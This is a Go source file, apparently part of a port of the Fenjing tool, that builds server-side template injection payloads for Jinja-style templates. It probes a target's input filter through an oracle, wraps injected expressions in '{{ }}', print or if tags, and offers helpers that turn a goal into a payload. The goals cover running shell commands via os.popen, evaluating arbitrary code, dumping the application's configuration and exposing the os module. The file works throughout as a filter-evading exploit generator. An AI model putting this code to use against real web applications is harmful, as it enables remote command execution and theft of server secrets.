package payload

import (
	"errors"

	"github.com/fuucckk/Fenjing/pkg/grammar"
	"github.com/fuucckk/Fenjing/pkg/options"
	"github.com/fuucckk/Fenjing/pkg/rules"
)

// ErrNoPayload is returned when every rendering of a goal was rejected.
var ErrNoPayload = errors.New("payload: no accepted rendering for goal")

// OuterPattern wraps an accepted expression into a complete template
// payload. Echoing patterns render the expression's value into the
// response; non-echoing patterns only evaluate it, which is enough for a
// side effect like command execution but carries no output back.
type OuterPattern struct {
	Name string

	// Prefix and Suffix surround the expression. Both are probed against
	// the oracle before the pattern is considered.
	Prefix string
	Suffix string

	// Echo reports whether the rendered value appears in the response.
	Echo bool
}

// outerPatterns in priority order. The expression-statement pair comes
// first: shortest, echoing, and universally supported.
var outerPatterns = []OuterPattern{
	{Name: "expression", Prefix: "{{", Suffix: "}}", Echo: true},
	{Name: "print_statement", Prefix: "{%print(", Suffix: ")%}", Echo: true},
	{Name: "if_statement", Prefix: "{%if ", Suffix: "%}{%endif%}", Echo: false},
}

// Payload is one complete synthesized template payload.
type Payload struct {
	// Content is the full template text to submit.
	Content string

	// Expr is the inner expression before outer wrapping.
	Expr string

	// Pattern names the outer wrapping used.
	Pattern string

	// WillEcho reports whether the target's response is expected to
	// contain the evaluated value.
	WillEcho bool

	// OracleCalls counts oracle consultations spent on this payload.
	OracleCalls int
}

// FullGenerator synthesizes complete payloads for top-level goals. Each
// Generate call runs an independent session: fresh memo, fresh resolver,
// same options and oracle.
type FullGenerator struct {
	opts   options.Options
	reg    *rules.Registry
	oracle Oracle
}

// NewFullGenerator builds a generator over the given configuration. A nil
// registry means the default rule set; a nil oracle accepts everything.
func NewFullGenerator(opts options.Options, reg *rules.Registry, oracle Oracle) *FullGenerator {
	if reg == nil {
		reg = rules.Default()
	}
	if oracle == nil {
		oracle = AcceptAll
	}
	return &FullGenerator{opts: opts, reg: reg, oracle: oracle}
}

// Generate synthesizes a complete payload satisfying req, trying outer
// patterns in priority order. The final wrapped payload is vetted against
// the oracle as a whole, not just piecewise, because a filter may match
// across the expression/delimiter boundary.
func (g *FullGenerator) Generate(req *grammar.Requirement) (Payload, error) {
	total := 0
	for _, pat := range outerPatterns {
		r := NewResolver(g.opts, g.reg, g.oracle)
		// Vet the wrapper around minimal valid content. An empty wrapper
		// is a template syntax error, and a target that surfaces engine
		// errors would make its own error page look like a block.
		ok := r.accepted(pat.Prefix + "1" + pat.Suffix)
		var res Result
		if ok {
			res, ok = r.Resolve(req)
		}
		full := ""
		if ok {
			full = pat.Prefix + res.Expr + pat.Suffix
			ok = r.accepted(full)
		}
		total += r.OracleCalls()
		if !ok {
			continue
		}
		return Payload{
			Content:     full,
			Expr:        res.Expr,
			Pattern:     pat.Name,
			WillEcho:    pat.Echo,
			OracleCalls: total,
		}, nil
	}
	return Payload{OracleCalls: total}, ErrNoPayload
}

// GenerateString synthesizes a payload evaluating to the literal value.
func (g *FullGenerator) GenerateString(value string) (Payload, error) {
	return g.Generate(grammar.String(value))
}

// GenerateCommand synthesizes a payload executing cmd in a shell and, when
// the pattern echoes, rendering the captured output.
func (g *FullGenerator) GenerateCommand(cmd string) (Payload, error) {
	return g.Generate(grammar.OSPopenRead(cmd))
}

// GenerateEval synthesizes a payload evaluating the interpreter expression
// code and rendering its value.
func (g *FullGenerator) GenerateEval(code string) (Payload, error) {
	return g.Generate(grammar.EvalCode(code))
}

// GenerateConfigDump synthesizes a payload rendering the application
// configuration object.
func (g *FullGenerator) GenerateConfigDump() (Payload, error) {
	return g.Generate(grammar.ConfigDump())
}

// GenerateOSModule synthesizes a payload rendering the os module handle,
// useful as a cheap liveness check of the escalation routes.
func (g *FullGenerator) GenerateOSModule() (Payload, error) {
	return g.Generate(grammar.OSModule())
}
